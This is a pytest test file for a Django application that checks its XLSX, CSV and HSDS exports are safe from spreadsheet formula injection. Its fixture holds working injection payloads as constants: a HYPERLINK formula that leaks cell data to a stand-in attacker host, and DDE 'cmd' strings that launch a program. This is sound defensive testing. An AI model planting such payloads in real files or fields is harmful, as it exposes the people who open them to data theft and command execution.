"""No text anyone typed runs as a formula in an export (issue 27, finding 3).

Every field a user types that reaches an export gets a text that Excel or LibreOffice would run
(`=`, `+`, `-`, `@`, a tab or carriage return first); then every export of the product is made
as its users make it (the pages' XLSX and CSV, the `report` command, the HSDS package) and every
text cell of every sheet is read back: none may start with such a character, and openpyxl must
see no formula. Before the shared writer (kreftkoordinator/exports.py), openpyxl stored the
position's name as a live formula in the national workbook.
"""

import csv
import io
import re
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from kreftkoordinator.accounts.tests.test_role_gating import world  # noqa: F401 -- fixture
from kreftkoordinator.conftest import login
from kreftkoordinator.directory.hsds import export_services
from kreftkoordinator.directory.hsds_tabular import export_zip, read_zip
from kreftkoordinator.directory.models import Offer
from kreftkoordinator.economics.workflows import rate_effect
from kreftkoordinator.exports import TRIGGERS, neutral, restored

POSITION = '=HYPERLINK("http://angriper.example/?"&A1,"Klikk her")'
SCHEME = "+cmd|' /C calc'!A0"
OFFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
JUSTIFICATION = "-2+3+cmd|' /C calc'!A0"
OFFER = "\t=1+1"
DESCRIPTION = "\r=2+2"


@pytest.fixture
def typed(world):  # noqa: F811 -- the fixture imported above
    """The world of the role tables, with a formula in every field that reaches an export."""
    position = world["position"]
    position.name = POSITION
    position.save()
    agreement = world["agreement"]
    agreement.scheme.name = SCHEME
    agreement.scheme.save()
    if agreement.district_office is not None:
        agreement.district_office.name = OFFICE
        agreement.district_office.save()
    rate_effect(
        world["users"]["per"], world["scenario"], "safety_and_coping", "large", 3, JUSTIFICATION
    )
    offer = world["offer"]
    offer.title, offer.description = OFFER, DESCRIPTION
    offer.save()
    return world


def cells_of_xlsx(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


# The one kind of live formula an export has: our own total of the part rows beneath it.
OUR_TOTAL = re.compile(r"=SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)")


def assert_no_formula(cells, *typed: str) -> None:
    formulas = [c for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str) and c not in formulas]
    assert not [c.coordinate for c in formulas if not OUR_TOTAL.fullmatch(c.value)]
    assert not [t for t in texts if t.startswith(TRIGGERS)]
    for text in typed:  # and what was typed is there, as text
        assert neutral(text) in texts, text


def assert_no_formula_in_csv(text: str, *typed: str) -> None:
    cells = [cell for row in csv.reader(StringIO(text), delimiter=";") for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for value in typed:
        assert neutral(value) in cells


def test_the_writer_round_trips_what_was_typed():
    for text in [POSITION, SCHEME, OFFICE, JUSTIFICATION, OFFER, DESCRIPTION, "'sitat", "vanlig"]:
        assert restored(neutral(text)) == text
        assert not neutral(text).startswith(TRIGGERS)
    assert neutral(-5) == -5 and neutral("") == ""


@pytest.mark.django_db
class TestEveryExport:
    def test_the_annual_report_as_xlsx_and_csv(self, client, typed):
        login(client, typed["users"]["kari"])
        url = reverse("reporting:annual", args=[typed["position"].pk, 2025])
        xlsx = client.get(url, {"format": "xlsx"})
        assert_no_formula(cells_of_xlsx(xlsx.content))
        assert_no_formula_in_csv(client.get(url, {"format": "csv"}).content.decode())

    def test_the_national_workbook_on_the_page_and_from_the_command(self, client, typed, tmp_path):
        login(client, typed["users"]["eva"])
        page = client.get(reverse("reporting:national", args=[2025]), {"format": "xlsx"})
        assert_no_formula(cells_of_xlsx(page.content), POSITION)
        path = tmp_path / "landet.xlsx"
        call_command("report", "national", "--year", "2025", "--xlsx", str(path), stdout=StringIO())
        assert_no_formula(cells_of_xlsx(path.read_bytes()), POSITION)

    def test_the_annual_report_from_the_command(self, typed, tmp_path):
        path = tmp_path / "aar.xlsx"
        position = str(typed["position"].pk)
        args = ["report", "annual", "--position", position, "--year", "2025", "--xlsx", str(path)]
        call_command(*args, stdout=StringIO())
        assert_no_formula(cells_of_xlsx(path.read_bytes()))

    def test_the_grants_overview_and_the_statements(self, client, typed):
        login(client, typed["users"]["eva"])
        overview = client.get(reverse("grants:agreements"), {"format": "xlsx"})
        assert_no_formula(cells_of_xlsx(overview.content), POSITION, SCHEME)
        statements = client.get(
            reverse("grants:statements"), {"kvartal": "2024-Q1", "format": "xlsx"}
        )
        assert_no_formula(cells_of_xlsx(statements.content), POSITION)

    def test_the_scenario_workbook(self, client, typed):
        login(client, typed["users"]["per"])
        url = reverse("economics:scenario", args=[typed["scenario"].pk])
        assert_no_formula(cells_of_xlsx(client.get(url, {"format": "xlsx"}).content), JUSTIFICATION)

    def test_the_hsds_package_and_back(self, typed):
        data = export_zip(export_services(Offer.objects.order_by("pk")))
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            texts = [
                cell
                for name in archive.namelist()
                if name.endswith(".csv")
                for row in csv.reader(StringIO(archive.read(name).decode(), newline=""))
                for cell in row
            ]
        assert not [t for t in texts if t.startswith(TRIGGERS)]
        assert neutral(OFFER) in texts and neutral(DESCRIPTION) in texts
        names = [s["name"] for s in read_zip(data)]
        assert OFFER in names  # read back as typed
